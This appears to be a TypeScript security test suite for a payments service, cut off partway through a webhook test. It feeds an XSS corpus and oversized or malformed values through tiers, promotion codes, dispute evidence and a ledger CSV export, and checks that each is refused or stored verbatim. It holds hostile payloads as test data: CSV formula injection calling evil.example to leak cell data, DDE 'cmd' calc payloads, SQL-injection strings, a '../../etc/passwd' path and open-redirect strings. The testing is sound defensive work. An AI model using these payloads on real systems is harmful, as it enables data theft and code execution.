/**
 * Hostile input through Payments, in both modes:
 * - The shared XSS corpus (services/posts/test/xss-corpus.ts, plus a few payments-flavoured strings) in tier names,
 *   descriptions and benefits, promotion codes, dispute evidence and the test checkout page's fields: within the
 *   documented limits it is stored and returned byte-for-byte as plain text (trimmed, as every text field is) —
 *   through the API, on the public tier, and on the checkout page the provider shows — never encoded, stripped
 *   or interpreted; beyond them, or where the format is closed (codes), it is refused with BAD_USER_INPUT naming
 *   the field.
 * - Oversized and malformed values (lengths, counts, amounts, currencies, trials, ids) get a clear BAD_USER_INPUT
 *   naming the field and change nothing (the tier list, codes and evidence are compared before and after).
 * - The plain HTTP routes: the Stripe webhook refuses oversized (413), unsigned or garbage (400) deliveries and
 *   other methods (405) and records nothing; the ledger CSV is served only by an unexpired signature over its own
 *   path (403 otherwise), and neutralises cells a spreadsheet would run as a formula.
 * - Page sizes are clamped, and query bombs built from payments fields are refused by the gateway before any
 *   subgraph is called (as tests/security/gateway.test.ts does for other fields).
 */
import { createHmac } from 'node:crypto';
import { UrlSigner } from '@circles/platform';
import { codeOf, distributedServicesAvailable, type GqlResult, modes, startTestPlatform, type TestPlatform } from '@circles/testing';
import { type Kysely, sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { xssCorpus } from '../../services/posts/test/xss-corpus.ts';
import { buy, type Call, CREATE_TIER, GOOD_CARD, must, type PaidCommunity, paidCommunity, signUpPeople, startCheckout, type Vars } from './payments-fixture.ts';

const canRunDistributed = await distributedServicesAvailable();
// What the payments service refuses in text people read (services/payments/src/service.ts): one-line fields take no
// control characters at all; long text keeps line breaks and tabs.
const LINE_CONTROL = /[\u0000-\u001f\u007f\u202a-\u202e\u2066-\u2069]/;
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u202a-\u202e\u2066-\u2069]/;

/** The shared corpus, and strings aimed at what payments does with text (spreadsheets, SQL, bidi, emoji). */
const corpus: readonly string[] = [
  ...xssCorpus,
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")',
  "'; drop table payments.tiers; --",
  '\u202Eevil\u202C <b>bold</b>',
  '😀'.repeat(20),
];

const EVIDENCE_FIELDS = ['customerName', 'customerEmailAddress', 'productDescription', 'serviceDate', 'accessActivityLog', 'customerCommunication', 'refundPolicy', 'cancellationPolicy', 'uncategorizedText'] as const;

const TIER_FIELDS = `id name description benefits trialDays archived circles { id } prices { interval amount currency active }`;

describe.each(modes)('payments under hostile input (%s)', (mode) => {
  const run = mode === 'embedded' || canRunDistributed;
  let p: TestPlatform;
  let db: Kysely<any>;
  let tokens: Record<'owner' | 'buyer', string>;
  let ids: Record<'owner' | 'buyer', string>;
  let club: PaidCommunity;
  /** The buyer's subscription (to `base`), disputed: the dispute takes evidence. */
  let base: string;
  let disputeId: string;
  /** A tier the buyer has an open checkout for (promotion codes allowed), never paid. */
  let window: string;
  let session: string;
  let seq = 0;
  const unique = (prefix: string) => `${prefix}${(++seq).toString(36)}${Date.now().toString(36)}`.toUpperCase();

  const tally = { requests: 0, started: Date.now() };
  const call: Call = (token, query, variables = {}) => {
    tally.requests++;
    return p.gql(query, variables, token ? { token } : {});
  };
  const fetchCounted = (url: string, init?: RequestInit) => {
    tally.requests++;
    return fetch(url, init);
  };
  const owner = (query: string, variables: Vars = {}) => call(tokens.owner, query, variables);
  const buyer = (query: string, variables: Vars = {}) => call(tokens.buyer, query, variables);
  const rows = async <T,>(q: { execute(db: Kysely<any>): Promise<{ rows: T[] }> }) => (await q.execute(db)).rows;
  const refusal = (r: GqlResult) => ({ code: codeOf(r), field: r.errors?.[0]?.extensions?.field });

  const createTier = (input: Vars) => owner(`mutation($c: ID!, $i: TierInput!) { createTier(communityId: $c, input: $i) { ${TIER_FIELDS} } }`, { c: club.id, i: { circleIds: [club.circleId], currency: 'usd', monthlyAmount: 1000, name: 'Fine', ...input } });
  const updateTier = (id: string, input: Vars) => owner(`mutation($id: ID!, $i: UpdateTierInput!) { updateTier(id: $id, input: $i) { ${TIER_FIELDS} } }`, { id, i: input });
  const createPromo = (input: Vars) => owner(`mutation($c: ID!, $i: PromoCodeInput!) { createPromoCode(communityId: $c, input: $i) { id code } }`, { c: club.id, i: input });
  const saveEvidence = (evidence: Vars, submit = false) =>
    owner(`mutation($id: ID!, $e: DisputeEvidenceInput!, $s: Boolean) { saveDisputeEvidence(id: $id, evidence: $e, submit: $s) { id evidence submittedAt } }`, { id: disputeId, e: evidence, s: submit });
  const pay = (input: Vars) => buyer(`mutation($i: TestCheckoutInput!) { completeTestCheckout(input: $i) }`, { i: { checkoutId: session, cardNumber: GOOD_CARD, acceptTerms: true, ...input } });

  /** Every tier of the club as its owner sees them, and the rows behind them. */
  const tierState = async () =>
    JSON.stringify({
      api: (await must(call, tokens.owner, `query($c: ID!) { communityTiers(communityId: $c) { ${TIER_FIELDS} } }`, { c: club.id })).communityTiers,
      tiers: await rows(sql`select id, name, description, benefits, circle_ids, trial_days, archived_at, updated_at from payments.tiers where community_id = ${club.id} order by id`),
      prices: await rows(sql`select id, tier_id, interval, amount, currency, active from payments.prices where community_id = ${club.id} order by id`),
    });
  const promoState = async () => JSON.stringify(await rows(sql`select id, code, percent_off, amount_off, active from payments.promo_codes where community_id = ${club.id} order by id`));
  const disputeState = async () => JSON.stringify(await rows(sql`select evidence, status, submitted_at from payments.disputes where id = ${disputeId}`));
  const checkoutState = async () =>
    JSON.stringify({
      page: (await must(call, tokens.buyer, `query($id: ID!) { testCheckout(id: $id) { status } }`, { id: session })).testCheckout,
      subscriptions: await rows(sql`select id from payments.subscriptions where user_id = ${ids.buyer} and tier_id = ${window}`),
    });

  beforeAll(async () => {
    if (!run) return;
    tally.started = Date.now();
    p = await startTestPlatform(mode);
    db = p.infra.database!.db as Kysely<any>;
    ({ tokens, ids } = await signUpPeople(p, ['owner', 'buyer'] as const, `ph${mode[0]}`));
    club = await paidCommunity(call, tokens.owner, { name: 'Hostile Paid', slug: `hostile-paid-${mode}` });
    await must(call, tokens.buyer, `mutation($id: ID!) { joinCommunity(id: $id) { id } }`, { id: club.id });
    base = (await must(call, tokens.owner, CREATE_TIER, { c: club.id, i: { name: 'Base', circleIds: [club.circleId], currency: 'usd', monthlyAmount: 1000 } })).createTier.id;
    await buy(call, tokens.buyer, base);
    const [sub] = await rows<{ id: string }>(sql`select id from payments.subscriptions where user_id = ${ids.buyer} and tier_id = ${base}`);
    disputeId = (await must(call, tokens.owner, `mutation($s: ID!) { simulateTestDispute(subscriptionId: $s) { id } }`, { s: sub!.id })).simulateTestDispute.id;
    window = (await must(call, tokens.owner, CREATE_TIER, { c: club.id, i: { name: 'Window', circleIds: [club.circleId], currency: 'usd', monthlyAmount: 500 } })).createTier.id;
    session = (await startCheckout(call, tokens.buyer, window)).sessionId;
  }, 120_000);
  afterAll(async () => {
    if (run) {
      console.log(
        `payments hostile input (${mode}): ${corpus.length} payloads through tier name/description/benefits (create and update), promotion codes (create, checkout, checkout page), ` +
          `${EVIDENCE_FIELDS.length} evidence fields and the checkout page's card/tax id/checkout id; ${tally.requests} requests in ${((Date.now() - tally.started) / 1000).toFixed(1)}s`,
      );
    }
    await p?.stop();
  });

  // ---- markup as text -----------------------------------------------------------------------------------------------

  it.runIf(run)('stores markup in tier names, descriptions and benefits verbatim, and shows it as text everywhere', async () => {
    for (const [i, payload] of corpus.entries()) {
      const text = payload.trim();
      // Control characters (NUL, bell, bidi overrides; line breaks in one-line fields) are refused naming the field.
      if (LINE_CONTROL.test(text)) {
        const before = await tierState();
        const refused = refusal(await createTier({ name: payload, description: payload, benefits: [payload] }));
        expect(refused?.code, `payload ${i}`).toBe('BAD_USER_INPUT');
        expect(['name', 'description', 'benefits.0'], `payload ${i}`).toContain(refused?.field);
        expect(await tierState()).toBe(before);
        continue;
      }
      // The full payload in every field: refused only past a documented limit, naming the first field past it.
      const tooLong = text.length > 80 ? 'name' : text.length > 200 ? 'benefits.0' : null;
      const full = await createTier({ name: payload, description: payload, benefits: [payload] });
      if (tooLong) {
        expect(refusal(full), `payload ${i}`).toEqual({ code: 'BAD_USER_INPUT', field: tooLong });
      } else {
        expect(full.errors, `payload ${i}`).toBeUndefined();
      }
      // Within the limits it is always stored as given.
      const name = text.slice(0, 80).trim();
      const benefit = text.slice(0, 200).trim();
      const r = tooLong ? await createTier({ name, description: payload, benefits: [benefit] }) : full;
      expect(r.errors, `payload ${i}`).toBeUndefined();
      const tier = r.data.createTier;
      expect({ name: tier.name, description: tier.description, benefits: tier.benefits }, `payload ${i}`).toEqual({ name, description: text, benefits: [benefit] });
      // The public tier, read anonymously, is the same text.
      const seen = (await call(null, `query($id: ID!) { tier(id: $id) { name description benefits } }`, { id: tier.id })).data.tier;
      expect(seen, `payload ${i}`).toEqual({ name, description: text, benefits: [benefit] });
      // The provider's checkout page shows it as the product: carried to the provider unchanged.
      const { sessionId } = await startCheckout(call, tokens.buyer, tier.id);
      const page = (await must(call, tokens.buyer, `query($id: ID!) { testCheckout(id: $id) { productName productDescription } }`, { id: sessionId })).testCheckout;
      expect(page, `payload ${i}`).toEqual({ productName: name, productDescription: text });
    }
  });

  it.runIf(run)('carries edited markup to the provider verbatim (updateTier, then the open checkout page)', async () => {
    for (const [i, payload] of corpus.entries()) {
      const text = payload.trim();
      if (LINE_CONTROL.test(text)) {
        expect(refusal(await updateTier(window, { name: text.slice(0, 80).trim() })), `payload ${i}`).toEqual({ code: 'BAD_USER_INPUT', field: 'name' });
        continue;
      }
      const name = text.slice(0, 80).trim();
      const r = await updateTier(window, { name, description: payload, benefits: [text.slice(0, 200).trim()] });
      expect(r.errors, `payload ${i}`).toBeUndefined();
      expect({ name: r.data.updateTier.name, description: r.data.updateTier.description }).toEqual({ name, description: text });
      const page = (await must(call, tokens.buyer, `query($id: ID!) { testCheckout(id: $id) { productName productDescription status } }`, { id: session })).testCheckout;
      expect(page, `payload ${i}`).toEqual({ productName: name, productDescription: text, status: 'open' });
    }
  });

  it.runIf(run)('control characters are refused or kept byte-for-byte, never half-stored', async () => {
    // Either outcome is allowed by the rule; what may never happen is a mangled value or a server error.
    for (const [name, field] of [
      ['bell\u0007ring', 'name'],
      ['rtl\u202Eoverride', 'name'],
      ['zero\u200Bwidth', 'name'],
    ] as const) {
      const r = await createTier({ name });
      if (r.errors) expect(refusal(r), JSON.stringify(name)).toEqual({ code: 'BAD_USER_INPUT', field });
      else expect(r.data.createTier.name).toBe(name);
    }
    // A NUL byte is refused naming the field, and nothing is written.
    const before = await tierState();
    expect(refusal(await createTier({ name: 'nul\u0000byte' }))).toEqual({ code: 'BAD_USER_INPUT', field: 'name' });
    expect(refusal(await createTier({ description: 'nul\u0000byte' }))).toEqual({ code: 'BAD_USER_INPUT', field: 'description' });
    expect(await tierState()).toBe(before);
  });

  it.runIf(run)('stores dispute evidence verbatim in every field, as JSON text', async () => {
    for (const [i, payload] of corpus.entries()) {
      const r = await saveEvidence(Object.fromEntries(EVIDENCE_FIELDS.map((f) => [f, payload])));
      if (CONTROL.test(payload.trim())) {
        // Control characters other than line breaks and tabs are refused, naming the first field.
        expect(refusal(r), `payload ${i}`).toEqual({ code: 'BAD_USER_INPUT', field: EVIDENCE_FIELDS[0] });
        continue;
      }
      expect(r.errors, `payload ${i}`).toBeUndefined();
      const evidence = JSON.parse(r.data.saveDisputeEvidence.evidence);
      for (const f of EVIDENCE_FIELDS) expect(evidence[f], `payload ${i} in ${f}`).toBe(payload.trim());
      expect(r.data.saveDisputeEvidence.submittedAt).toBeNull();
    }
  });

  it.runIf(run)('refuses hostile promotion codes naming the field, at creation, at checkout and on the checkout page', async () => {
    const promos = await promoState();
    const checkout = await checkoutState();
    for (const [i, payload] of corpus.entries()) {
      expect(refusal(await createPromo({ code: payload, percentOff: 10 })), `payload ${i}`).toEqual({ code: 'BAD_USER_INPUT', field: 'code' });
      const start = await buyer(`mutation($t: ID!, $p: String) { startCheckout(tierId: $t, interval: MONTH, promoCode: $p) { url } }`, { t: window, p: payload });
      expect(refusal(start), `payload ${i}`).toEqual({ code: 'BAD_USER_INPUT', field: 'promoCode' });
      // Typed on the provider's page: the provider's own refusal ("This code is invalid."), as a clear BAD_USER_INPUT.
      const typed = await pay({ promotionCode: payload });
      expect(codeOf(typed), `payload ${i}`).toBe('BAD_USER_INPUT');
      expect(typed.errors![0]!.message).toMatch(/code/i);
    }
    expect(await promoState()).toBe(promos);
    expect(await checkoutState()).toBe(checkout);
  });

  it.runIf(run)('refuses hostile card numbers, tax ids and checkout ids on the test checkout page; the checkout stays open', async () => {
    const before = await checkoutState();
    const hostile = [...corpus.slice(0, 12), 'x'.repeat(10_000), '4242 4242 4242 424\u0000', '4242424242424242; drop table payments.checkouts'];
    for (const value of hostile) {
      const card = await pay({ cardNumber: value });
      expect(codeOf(card), JSON.stringify(value).slice(0, 60)).toBe('BAD_USER_INPUT');
      expect(card.errors![0]!.message).toMatch(/card/i);
      for (const tax of [{ taxIdType: value, taxIdValue: 'DE123456789' }, { taxIdType: 'eu_vat', taxIdValue: value }]) {
        const r = await pay(tax);
        expect(codeOf(r), JSON.stringify(tax).slice(0, 60)).toBe('BAD_USER_INPUT');
        expect(r.errors![0]!.message).toMatch(/tax id/i);
      }
      // Not a checkout of the buyer's: it does not exist (or, with a NUL byte, is malformed) — whatever the string.
      const other = await buyer(`mutation($i: TestCheckoutInput!) { completeTestCheckout(input: $i) }`, { i: { checkoutId: value, cardNumber: GOOD_CARD, acceptTerms: true } });
      expect(['NOT_FOUND', 'BAD_USER_INPUT'], JSON.stringify(value).slice(0, 60)).toContain(codeOf(other));
      const page = await buyer(`query($id: ID!) { testCheckout(id: $id) { id } }`, { id: value });
      if (page.errors) expect(codeOf(page)).toBe('BAD_USER_INPUT');
      else expect(page.data.testCheckout).toBeNull();
    }
    // Terms must be accepted: refused, not silently accepted.
    expect(codeOf(await pay({ acceptTerms: false }))).toBe('BAD_USER_INPUT');
    expect(await checkoutState()).toBe(before);
  });

  // ---- oversized and malformed values ---------------------------------------------------------------------------------

  it.runIf(run)('refuses oversized and malformed tier input with the field named, changing nothing', async () => {
    const before = await tierState();
    const cases: [Vars, string][] = [
      [{ name: 'x'.repeat(81) }, 'name'],
      [{ name: 'x'.repeat(100_000) }, 'name'],
      [{ name: '   ' }, 'name'],
      [{ description: 'd'.repeat(2001) }, 'description'],
      [{ description: 'd'.repeat(200_000) }, 'description'],
      [{ benefits: Array.from({ length: 21 }, (_, i) => `benefit ${i}`) }, 'benefits'],
      [{ benefits: ['b'.repeat(201)] }, 'benefits.0'],
      [{ benefits: ['fine', ' '] }, 'benefits.1'],
      [{ monthlyAmount: 100_000_000 }, 'monthlyAmount'],
      [{ yearlyAmount: 2_147_483_647 }, 'yearlyAmount'],
      [{ monthlyAmount: -1 }, 'monthlyAmount'],
      [{ monthlyAmount: null, onceAmount: -500 }, 'onceAmount'],
      [{ monthlyAmount: 0 }, 'monthlyAmount'],
      [{ monthlyAmount: null }, 'monthlyAmount'],
      [{ currency: 'dollars' }, 'currency'],
      [{ currency: 'US$' }, 'currency'],
      [{ currency: '<script>' }, 'currency'],
      [{ currency: '' }, 'currency'],
      [{ trialDays: 731 }, 'trialDays'],
      [{ trialDays: -1 }, 'trialDays'],
      [{ circleIds: [] }, 'circleIds'],
      [{ circleIds: ['nope'] }, 'circleIds.0'],
      [{ circleIds: ["' OR 1=1 --"] }, 'circleIds.0'],
      [{ circleIds: ['x'.repeat(5000)] }, 'circleIds.0'],
      [{ circleIds: ['00000000-0000-4000-8000-00000000000g'] }, 'circleIds.0'],
      [{ circleIds: [crypto.randomUUID()] }, 'circleIds'],
      [{ circleIds: Array.from({ length: 51 }, () => crypto.randomUUID()) }, 'circleIds'],
    ];
    for (const [input, field] of cases) expect(refusal(await createTier(input)), JSON.stringify(input).slice(0, 80)).toEqual({ code: 'BAD_USER_INPUT', field });
    const updates: [Vars, string][] = [
      [{ name: 'x'.repeat(81) }, 'name'],
      [{ name: '' }, 'name'],
      [{ description: 'd'.repeat(2001) }, 'description'],
      [{ benefits: Array.from({ length: 21 }, (_, i) => `b${i}`) }, 'benefits'],
      [{ monthlyAmount: 100_000_000 }, 'monthlyAmount'],
      [{ yearlyAmount: -1 }, 'yearlyAmount'],
      [{ currency: 'bogus' }, 'currency'],
      [{ trialDays: 731 }, 'trialDays'],
      [{ circleIds: ['nope'] }, 'circleIds.0'],
      [{ circleIds: [crypto.randomUUID()] }, 'circleIds'],
      // Stopping the only price leaves nothing on sale: refused, the old price stays.
      [{ monthlyAmount: 0 }, 'monthlyAmount'],
    ];
    for (const [input, field] of updates) expect(refusal(await updateTier(base, input)), JSON.stringify(input).slice(0, 80)).toEqual({ code: 'BAD_USER_INPUT', field });
    // Values GraphQL itself cannot carry (not whole numbers, past 32 bits, not numbers) are refused by the gateway's
    // validation, naming the argument path (HTTP 400, no data).
    for (const amount of [9.5, 2 ** 31, -(2 ** 31) - 1, '100', 1e20]) {
      for (const r of [await createTier({ monthlyAmount: amount }), await updateTier(base, { monthlyAmount: amount })]) {
        expect(r.status, String(amount)).toBe(400);
        expect(r.data ?? null).toBeNull();
        expect(r.errors?.[0]?.message).toMatch(/i\.monthlyAmount/);
      }
    }
    expect(await tierState()).toBe(before);
  });

  it.runIf(run)('refuses oversized and malformed promotion codes with the field named, changing nothing', async () => {
    const before = await promoState();
    const code = unique('OK');
    const cases: [Vars, string][] = [
      [{ code: 'ab', percentOff: 10 }, 'code'],
      [{ code: 'c'.repeat(41), percentOff: 10 }, 'code'],
      [{ code: 'has space', percentOff: 10 }, 'code'],
      [{ code, percentOff: 0 }, 'percentOff'],
      [{ code, percentOff: 101 }, 'percentOff'],
      [{ code, percentOff: -10 }, 'percentOff'],
      [{ code, amountOff: 100_000_000, currency: 'usd' }, 'amountOff'],
      [{ code, amountOff: -1, currency: 'usd' }, 'amountOff'],
      [{ code, amountOff: 500 }, 'currency'],
      [{ code, amountOff: 500, currency: 'dollars' }, 'currency'],
      [{ code, percentOff: 10, amountOff: 500, currency: 'usd' }, 'percentOff'],
      [{ code }, 'percentOff'],
      [{ code, percentOff: 10, duration: 'REPEATING' }, 'durationInMonths'],
      [{ code, percentOff: 10, duration: 'ONCE', durationInMonths: 3 }, 'durationInMonths'],
      [{ code, percentOff: 10, duration: 'REPEATING', durationInMonths: 37 }, 'durationInMonths'],
      [{ code, percentOff: 10, maxRedemptions: 0 }, 'maxRedemptions'],
      [{ code, percentOff: 10, expiresAt: '2001-01-01T00:00:00Z' }, 'expiresAt'],
      [{ code, percentOff: 10, tierIds: ['nope'] }, 'tierIds.0'],
      [{ code, percentOff: 10, tierIds: [crypto.randomUUID()] }, 'tierIds'],
      [{ code, percentOff: 10, tierIds: Array.from({ length: 51 }, () => crypto.randomUUID()) }, 'tierIds'],
    ];
    for (const [input, field] of cases) expect(refusal(await createPromo(input)), JSON.stringify(input).slice(0, 80)).toEqual({ code: 'BAD_USER_INPUT', field });
    expect(await promoState()).toBe(before);
  });

  it.runIf(run)('refuses oversized dispute evidence naming the field, changing nothing; the limit itself is accepted', async () => {
    const before = await disputeState();
    for (const f of EVIDENCE_FIELDS) {
      for (const submit of [false, true]) {
        expect(refusal(await saveEvidence({ [f]: 'e'.repeat(20_001) }, submit)), f).toEqual({ code: 'BAD_USER_INPUT', field: f });
      }
    }
    expect(refusal(await saveEvidence({ uncategorizedText: 'fine', refundPolicy: 'r'.repeat(500_000) }))).toEqual({ code: 'BAD_USER_INPUT', field: 'refundPolicy' });
    expect(await disputeState()).toBe(before);
    const atLimit = await saveEvidence({ uncategorizedText: 'e'.repeat(20_000) });
    expect(atLimit.errors).toBeUndefined();
    expect(JSON.parse(atLimit.data.saveDisputeEvidence.evidence).uncategorizedText).toHaveLength(20_000);
  });

  it.runIf(run)('refuses malformed ids cleanly, never with a server error', async () => {
    const bad = ['nope', "' OR 1=1 --", 'x'.repeat(5000), '00000000-0000-4000-8000-00000000000g', '../../etc/passwd'];
    const documents: [string, (id: string) => Vars][] = [
      [`mutation($id: ID!) { updateTier(id: $id, input: { name: "x" }) { id } }`, (id) => ({ id })],
      [`mutation($id: ID!) { archiveTier(id: $id) { id } }`, (id) => ({ id })],
      [`mutation($id: ID!) { deactivatePromoCode(id: $id) { id } }`, (id) => ({ id })],
      [`mutation($id: ID!) { startCheckout(tierId: $id, interval: MONTH) { url } }`, (id) => ({ id })],
      [`mutation($id: ID!) { cancelSubscription(id: $id) { id } }`, (id) => ({ id })],
      [`mutation($id: ID!) { refundSubscription(id: $id) { id } }`, (id) => ({ id })],
      [`mutation($id: ID!) { simulateTestDispute(subscriptionId: $id) { id } }`, (id) => ({ id })],
      [`mutation($id: ID!) { saveDisputeEvidence(id: $id, evidence: { uncategorizedText: "x" }) { id } }`, (id) => ({ id })],
      [`mutation($id: ID!) { simulateTestDisputeOutcome(disputeId: $id, won: true) { id } }`, (id) => ({ id })],
      [`mutation($id: ID!) { completeTestOnboarding(accountId: $id) }`, (id) => ({ id })],
      [`query($id: ID!) { communityTiers(communityId: $id) { id } }`, (id) => ({ id })],
      [`query($id: ID!) { ledger(communityId: $id) { id } }`, (id) => ({ id })],
      [`query($id: ID!) { ledgerExportUrl(communityId: $id) }`, (id) => ({ id })],
      [`mutation($id: ID!) { createTier(communityId: $id, input: { name: "x", circleIds: [], currency: "usd", monthlyAmount: 100 }) { id } }`, (id) => ({ id })],
    ];
    for (const [doc, vars] of documents) {
      for (const id of bad) {
        const r = await owner(doc, vars(id));
        expect(['NOT_FOUND', 'BAD_USER_INPUT'], `${doc.slice(0, 50)} ${id.slice(0, 20)}`).toContain(codeOf(r));
      }
    }
    // A wrong id on a read that answers null is just "no such thing".
    for (const id of bad) expect((await owner(`query($id: ID!) { tier(id: $id) { id } }`, { id })).data.tier).toBeNull();
  });

  it.runIf(run)('keeps the billing portal’s way back on this site', async () => {
    for (const returnPath of ['https://evil.example/', '//evil.example/x', '/\\evil.example', 'javascript:alert(1)', '/ok"><script>alert(1)</script>', '', 'relative/path', `/${'a'.repeat(3000)}<`]) {
      expect(refusal(await buyer(`mutation($r: String) { openBillingPortal(returnPath: $r) }`, { r: returnPath })), returnPath.slice(0, 40)).toEqual({ code: 'BAD_USER_INPUT', field: 'returnPath' });
    }
    const fine = await buyer(`mutation { openBillingPortal(returnPath: "/account/subscriptions?tab=1") }`);
    expect(fine.data.openBillingPortal).toMatch(/\/billing\/test-portal\/bps_/);
  });

  // ---- pages, the CSV and the HTTP routes ---------------------------------------------------------------------------------

  describe('ledger pages and the CSV export', () => {
    let ledgerClub: string;
    /** Entries as the provider could describe them: the description and object id are the provider's text. */
    const hostile: [string, string][] = [
      ['=HYPERLINK("https://evil.example/?x="&A1,"Refund")', '=cmd|\' /C calc\'!A0'],
      ['+1+cmd|\' /C calc\'!A0', '+ch_1'],
      ['-2+3+cmd|\' /C calc\'!A0', '-ch_2'],
      ['@SUM(1+1)*cmd|\' /C calc\'!A0', '@ch_3'],
      ['\t=1+1', '\tch_4'],
      ['\r=1+1', '\rch_5'],
      ['A "quoted", plain description', 'ch_plain'],
      ['-45', 'ch_numeric'],
    ];

    beforeAll(async () => {
      if (!run) return;
      // A community of the owner's with a long ledger written directly (the ledger is append-only: inserts are
      // what the provider's events do): 600 plain entries and the hostile ones.
      ledgerClub = (await must(call, tokens.owner, `mutation($s: String!) { createCommunity(input: { name: "Ledger Club", slug: $s }) { id } }`, { s: `ledger-club-${mode}` })).createCommunity.id;
      await sql`insert into payments.ledger (id, community_id, kind, amount, currency, provider_object_id, description, occurred_at)
        select gen_random_uuid(), ${ledgerClub}::uuid, 'charge', 100, 'usd', 'ch_bulk_' || g, 'Subscription payment', now() from generate_series(1, 600) g`.execute(db);
      for (const [i, [description, objectId]] of hostile.entries()) {
        await sql`insert into payments.ledger (id, community_id, kind, amount, currency, provider_object_id, description, occurred_at)
          values (gen_random_uuid(), ${ledgerClub}::uuid, 'refund', ${-45 - i}, 'usd', ${objectId}, ${description}, now())`.execute(db);
      }
    });

    it.runIf(run)('clamps page sizes; pages past the cost limit are refused at the gateway', async () => {
      const page = (first: number) => owner(`query($c: ID!, $f: Int) { ledger(communityId: $c, first: $f) { sequence } }`, { c: ledgerClub, f: first });
      expect((await page(-5)).data.ledger).toHaveLength(1);
      expect((await page(0)).data.ledger).toHaveLength(1);
      expect((await page(-2_147_483_648)).data.ledger).toHaveLength(1);
      // The gateway prices a page size given by a variable as a generous default (packages/gateway/src/limits.ts),
      // so the service's own clamp is what holds: at most 500.
      expect((await page(9_000)).data.ledger).toHaveLength(500);
      expect((await page(1_000_000)).data.ledger).toHaveLength(500);
      expect((await page(2_147_483_647)).data.ledger).toHaveLength(500);
      // Written into the query, a huge page is priced as such and refused before the service is asked.
      for (const first of [1_000_000, 2_147_483_647]) {
        expect(codeOf(await owner(`query($c: ID!) { ledger(communityId: $c, first: ${first}) { sequence } }`, { c: ledgerClub }))).toBe('QUERY_TOO_COSTLY');
        expect(codeOf(await owner(`query($c: ID!) { communitySubscriptions(communityId: $c, first: ${first}) { id } }`, { c: club.id }))).toBe('QUERY_TOO_COSTLY');
      }
      const subs = (first: number) => owner(`query($c: ID!, $f: Int) { communitySubscriptions(communityId: $c, first: $f) { id } }`, { c: club.id, f: first });
      expect((await subs(-5)).data.communitySubscriptions).toHaveLength(1);
      expect((await subs(0)).data.communitySubscriptions).toHaveLength(1);
      expect((await subs(1_000_000)).errors).toBeUndefined();
      // A cursor that is not a sequence number is a page of nothing, not an error.
      expect((await owner(`query($c: ID!) { ledger(communityId: $c, before: -1) { id } }`, { c: ledgerClub })).data.ledger).toEqual([]);
    });

    it.runIf(run)('neutralises cells a spreadsheet would run as a formula; numbers keep their sign', async () => {
      const url = (await must(call, tokens.owner, `query($c: ID!) { ledgerExportUrl(communityId: $c) }`, { c: ledgerClub })).ledgerExportUrl as string;
      const res = await fetchCounted(p.url + url);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      const csv = await res.text();
      const lines = csv.split('\r\n').filter(Boolean);
      expect(lines).toHaveLength(1 + 600 + hostile.length);
      const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
      for (const [i, [description, objectId]] of hostile.entries()) {
        const line = lines.find((l) => l.includes(`,"${-45 - i}",`));
        expect(line, description).toBeDefined();
        const dangerous = (s: string) => /^[=+\-@\t\r]/.test(s) && !/^-?\d+(\.\d+)?$/.test(s);
        expect(line, description).toContain(q(dangerous(description) ? `'${description}` : description));
        expect(line, objectId).toContain(q(dangerous(objectId) ? `'${objectId}` : objectId));
      }
      // Every cell is quoted, and no cell of the file starts a formula.
      for (const line of lines.slice(1)) {
        for (const cell of line.match(/"(?:[^"]|"")*"/g)!) expect(/^"[=+@\t\r]/.test(cell) || (/^"-/.test(cell) && !/^"-?\d+(\.\d+)?"$/.test(cell)), cell).toBe(false);
      }
    });

    it.runIf(run)('serves the CSV only for an unexpired signature over its own path', async () => {
      const good = (await must(call, tokens.owner, `query($c: ID!) { ledgerExportUrl(communityId: $c) }`, { c: ledgerClub })).ledgerExportUrl as string;
      expect((await fetchCounted(p.url + good)).status).toBe(200);
      const path = good.split('?')[0]!;
      const params = new URLSearchParams(good.split('?')[1]);
      const signer = new UrlSigner(p.infra.gatewaySecret);
      const refused: [string, string][] = [
        ['bare', path],
        ['forged signature', `${path}?exp=${params.get('exp')}&sig=${'A'.repeat(43)}`],
        ['signature of another length', `${path}?exp=${params.get('exp')}&sig=x`],
        ['expiry extended', `${path}?exp=${Number(params.get('exp')) + 86_400}&sig=${params.get('sig')}`],
        ['expired, correctly signed', signer.sign(path, new Date(Date.now() - 1000))],
        ['another community’s path under this signature', `/payments/ledger/${club.id}.csv?${params}`],
        ['not a number', `${path}?exp=1e99&sig=${params.get('sig')}`],
      ];
      for (const [what, url] of refused) {
        const res = await fetchCounted(p.url + url);
        expect(res.status, what).toBe(403);
        expect((await res.json()).error.code, what).toBe('FORBIDDEN');
      }
      // Other methods do not serve it.
      expect((await fetchCounted(p.url + good, { method: 'POST' })).status).toBe(404);
    });
  });

  it.runIf(run)('the Stripe webhook refuses oversized, unsigned, forged and garbage deliveries and other methods, recording nothing', async () => {
    // Events are stored under the running provider's kind, whatever route brought them: look for this one by its ids.
    const recorded = async () => (await rows<{ n: number }>(sql`select count(*)::int as n from payments.provider_events where id = 'evt_hostile' or payload->>'id' = 'ch_hostile'`))[0]!.n;
    const url = `${p.url}/payments/webhooks/stripe`;
    const deliver = (body: BodyInit | null, headers: Record<string, string> = {}, method = 'POST') =>
      fetchCounted(url, { method, headers: { 'content-type': 'application/json', ...headers }, body, ...(body instanceof ReadableStream ? { duplex: 'half' } : {}) } as RequestInit);
    const t = Math.floor(Date.now() / 1000);
    const event = JSON.stringify({ id: 'evt_hostile', object: 'event', type: 'charge.refunded', created: t, livemode: false, account: null, data: { object: { id: 'ch_hostile', object: 'charge' } } });
    const signedWith = (secret: string, body: string, at = t) => `t=${at},v1=${createHmac('sha256', secret).update(`${at}.${body}`).digest('hex')}`;

    // Over 1 MiB: by its declared length, and streamed without one.
    const big = await deliver(`{"x":"${'a'.repeat(1024 * 1024)}"}`);
    expect(big.status).toBe(413);
    expect((await big.json()).error.code).toBe('PAYLOAD_TOO_LARGE');
    const stream = new ReadableStream({
      start(controller) {
        for (let i = 0; i < 24; i++) controller.enqueue(new Uint8Array(64 * 1024).fill(0x61));
        controller.close();
      },
    });
    expect((await deliver(stream)).status).toBe(413);

    // Unsigned, forged, garbage.
    const bad: [string, string, Record<string, string>][] = [
      ['garbage, unsigned', '{not json', {}],
